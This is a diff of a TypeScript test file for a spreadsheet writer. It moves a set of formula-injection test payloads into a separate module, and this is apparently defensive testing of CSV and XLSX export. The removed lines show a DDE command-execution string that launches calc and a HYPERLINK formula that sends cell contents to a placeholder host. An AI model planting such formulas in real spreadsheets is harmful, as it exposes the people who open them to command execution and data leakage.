@@ -5,28 +5,13 @@ import { describe, expect, test } from 'vitest';
 import { openSheet } from './read.ts';
 import type { WrittenCell, WrittenRow } from './sheet-xml.ts';
 import { gathered } from './testing/gathered.ts';
+import { PAYLOADS } from './testing/payloads.ts';
 import { csvBytes, xlsxBytes } from './write.ts';
 
 const text = (words: string): WrittenCell => ({ kind: 'text', text: words });
 const bytesOf = async (chunks: AsyncIterable<Uint8Array>) => Buffer.concat(await gathered(chunks));
 const workbookOf = (rows: readonly WrittenRow[]) =>
   bytesOf(xlsxBytes([{ name: 'Bảng', widths: [20], rows }]));
-
-const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
-const BEFORE = ['', ' ', '\u00a0', '\u200b', '\ufeff', "'", "''", '\n', '"'];
-const COMMANDS = [
-  '1+1',
-  "cmd|' /C calc'!A0",
-  'HYPERLINK("http://x.invalid?"&A1,"a")',
-  'SUM(A1:A9)',
-  '',
-  ',;"\t=1',
-  'IMPORTXML(1)',
-];
-/** 630 texts that somebody hopes a spreadsheet will carry out. */
-const PAYLOADS = STARTS.flatMap((start) =>
-  BEFORE.flatMap((before) => COMMANDS.map((command) => before + start + command)),
-);
 
 /** Texts that a CSV reader keeps apart from the blank, since one that is only space says nothing. */
 const written = PAYLOADS.filter((payload) => payload.trim() !== '');
